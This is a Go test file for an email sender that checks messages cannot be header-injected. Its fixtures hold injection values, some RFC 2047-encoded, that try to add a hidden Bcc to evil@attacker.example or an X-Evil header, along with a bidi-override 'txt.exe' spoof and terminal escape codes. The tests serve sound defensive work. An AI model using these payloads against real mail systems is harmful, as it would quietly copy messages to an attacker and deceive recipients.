package sender

import (
	"context"
	"io"
	"strings"
	"testing"
)

// encodedCRLF is an RFC 2047 word that decodes to a line break and a Bcc:
// header, as an inviter's display name or subject could carry it.
const encodedCRLF = "=?utf-8?q?x=0D=0ABcc:_evil@attacker.example?="

// Member and inviter text reaches headers only as one line, after decoding:
// no header can be added, and the body keeps no control characters.
func TestBuildCannotBeInjected(t *testing.T) {
	m := consultation()
	m.To = []Address{{Name: encodedCRLF, Addr: "amal@ngo-amal.example"}}
	m.Cc = []Address{{Name: "Nour\r\nBcc: evil@attacker.example", Addr: "sara@ngo-nour.example"}}
	m.ReplyTo = &Address{Name: "=?utf-8?b?eA0KQmNjOiBldmlsQHguZXhhbXBsZQ==?=", Addr: "coalition+tok@coalition.example"}
	m.Subject = "Re: " + encodedCRLF + " \u202Etxt.exe\r\nX-Evil: 1"
	m.Headers = map[string]string{"X-Consultd-Round": "r1\r\nBcc: evil@attacker.example"}
	m.Text = "Concerns:\r\n1. Bell\x07 escape\x1b[2J and \u202Eoverride\u202C\n2. نوصي بإشراك النساء\u200F"
	m.HTML = "<p>x\x00y\u202Ez</p>"
	mr, raw := render(t, m)
	head, _, _ := strings.Cut(raw, "\r\n\r\n")
	for _, bad := range []string{"\nBcc:", "\nX-Evil:", "evil@attacker.example>", "\u202E"} {
		if strings.Contains(head, bad) {
			t.Errorf("header block contains %q:\n%s", bad, head)
		}
	}
	if mr.Header.Has("Bcc") || mr.Header.Has("X-Evil") {
		t.Errorf("a header was added: Bcc %q, X-Evil %q", mr.Header.Get("Bcc"), mr.Header.Get("X-Evil"))
	}
	to, err := mr.Header.AddressList("To")
	if err != nil || len(to) != 1 || to[0].Address != "amal@ngo-amal.example" || to[0].Name != "x Bcc: evil@attacker.example" {
		t.Errorf("To = %v (%v)", to, err)
	}
	subj, err := mr.Header.Subject()
	if err != nil || strings.ContainsAny(subj, "\r\n\u202E") || subj != "Re: x Bcc: evil@attacker.example txt.exe X-Evil: 1" {
		t.Errorf("Subject = %q (%v)", subj, err)
	}
	if got := mr.Header.Get("X-Consultd-Round"); got != "r1 Bcc: evil@attacker.example" {
		t.Errorf("extra header = %q", got)
	}
	var parts []string
	for {
		p, err := mr.NextPart()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(p.Body)
		parts = append(parts, string(b))
	}
	body := strings.Join(parts, "\n--\n")
	if strings.ContainsAny(body, "\x07\x1b\x00\u202E\u202C") {
		t.Errorf("control or bidi override characters in the body: %q", body)
	}
	for _, want := range []string{"Bell escape[2J and override", "نوصي بإشراك النساء\u200F", "<p>xyz</p>"} {
		if !strings.Contains(body, want) {
			t.Errorf("body lacks %q: %q", want, body)
		}
	}
}

// Through a real SMTP exchange the injected Bcc gets nothing: the envelope
// has only the real recipients.
func TestSendCannotBeInjected(t *testing.T) {
	e := newEnv(t)
	m := consultation()
	m.To = []Address{{Name: encodedCRLF, Addr: "amal@ngo-amal.example"}}
	m.Cc = nil
	m.Subject = encodedCRLF
	rep, err := e.sender.Send(context.Background(), m)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Accepted) != 1 || len(e.inbox(t, "amal@ngo-amal.example")) != 1 {
		t.Errorf("accepted %v", rep.Accepted)
	}
	if n := len(e.inbox(t, "evil@attacker.example")); n != 0 {
		t.Errorf("the injected Bcc received %d messages", n)
	}
}
